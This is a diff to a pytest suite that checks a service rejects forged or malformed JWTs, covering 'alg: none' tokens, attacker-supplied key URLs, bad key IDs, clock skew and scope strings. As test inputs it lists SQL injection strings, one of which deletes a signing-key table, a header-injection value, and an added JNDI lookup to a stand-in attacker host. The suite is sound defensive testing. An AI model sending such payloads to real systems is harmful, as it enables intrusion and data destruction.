@@ -75,9 +75,9 @@ async def test_unchanged_tokens_are_accepted(
     assert await status(anonymous, external_issuer.create_token()) == 200
 
 
-@pytest.mark.parametrize("algorithm", ["none", "None", "nOnE", "NONE", "", None])
+@pytest.mark.parametrize("algorithm", ["none", "None", "nOnE", "NONE", "", None, 7, ["RS256"]])
 async def test_token_with_algorithm_none_is_rejected(
-    anonymous: AsyncClient, token: Token, algorithm: str | None
+    anonymous: AsyncClient, token: Token, algorithm: object
 ) -> None:
     header, claims = await parts(token)
     for by in (unsigned, attacker):
@@ -121,7 +121,10 @@ async def test_token_with_another_algorithm_is_rejected(
 
 
 async def test_keys_and_key_urls_in_the_header_are_ignored(
-    anonymous: AsyncClient, token: Token, attacker_server: ScriptedSource
+    anonymous: AsyncClient,
+    token: Token,
+    external_issuer: ExternalIssuer,
+    attacker_server: ScriptedSource,
 ) -> None:
     header, claims = await parts(token)
     url = f"{attacker_server.url}/jwks.json"
@@ -131,6 +134,8 @@ async def test_keys_and_key_urls_in_the_header_are_ignored(
             text = forged({**header, "kid": kid, name: value}, claims)
             assert await rejection_message(anonymous, text)
         assert await rejection_message(anonymous, forged({**header, "kid": kid, **own}, claims))
+    text = external_issuer.create_forged_token(get_rsa_signer(external_issuer.key), own)
+    assert await status(anonymous, text) == 200
     for issuer in (url, attacker_server.url):
         assert await rejection_message(anonymous, forged(header, {**claims, "iss": issuer}))
     assert attacker_server.requests == []
@@ -145,6 +150,8 @@ async def test_keys_and_key_urls_in_the_header_are_ignored(
         "' OR '1'='1' --",
         "x'; DELETE FROM signing_keys; --",
         "x' UNION SELECT 'x",
+        "${jndi:ldap://attacker.test}",
+        "x" * 4000,
         "\x00",
         "key\r\nX-Injected: yes",
         "",
@@ -163,16 +170,25 @@ async def test_unknown_key_id_is_refused(anonymous: AsyncClient, token: Token, k
 
 
 @pytest.mark.parametrize(
-    ("claim", "accepted", "too_far"),
-    [("exp", -SKEW + 10, -SKEW - 10), ("nbf", SKEW - 10, SKEW + 10), ("iat", SKEW - 10, SKEW + 10)],
+    ("claim", "accepted", "too_far", "message"),
+    [
+        ("exp", -SKEW + 10, -SKEW - 10, "it has expired"),
+        ("nbf", SKEW - 10, SKEW + 10, "it is not valid yet"),
+        ("iat", SKEW - 10, SKEW + 10, "issued in the future"),
+    ],
 )
 async def test_clock_skew_of_up_to_a_minute_is_accepted(
-    anonymous: AsyncClient, external_issuer: ExternalIssuer, claim: str, accepted: int, too_far: int
+    anonymous: AsyncClient,
+    external_issuer: ExternalIssuer,
+    claim: str,
+    accepted: int,
+    too_far: int,
+    message: str,
 ) -> None:
     now = int(time.time())
     assert await status(anonymous, external_issuer.create_token(**{claim: now + accepted})) == 200
     text = external_issuer.create_token(**{claim: now + too_far})
-    assert await rejection_message(anonymous, text)
+    assert message in await rejection_message(anonymous, text)
 
 
 @pytest.mark.parametrize(
@@ -201,10 +217,16 @@ async def test_token_with_unsuitable_claims_is_rejected(
         (f"{SCOPE}readonly", 200),
         (f"openid {SCOPE}readonly profile", 200),
         ([f"{SCOPE}readonly", "openid"], 200),
+        ([7, None, ["x"], f"{SCOPE}readonly"], 200),
+        (f"{SCOPE}readonly".replace("v1p0", "v1p1"), 200),
         (f"{SCOPE}readonly.extra", 403),
         (f"x{SCOPE}readonly", 403),
         (f"{SCOPE}read", 403),
         (f"{SCOPE}READONLY", 403),
+        (f"{SCOPE}readonly".replace("https", "http"), 403),
+        ([[f"{SCOPE}readonly"]], 403),
+        ("", 403),
+        (7, 403),
         (f"{SCOPE}readonly,{SCOPE}createput", 403),
         ([f"{SCOPE}readonly {SCOPE}createput"], 403),
         ("case.readonly", 403),
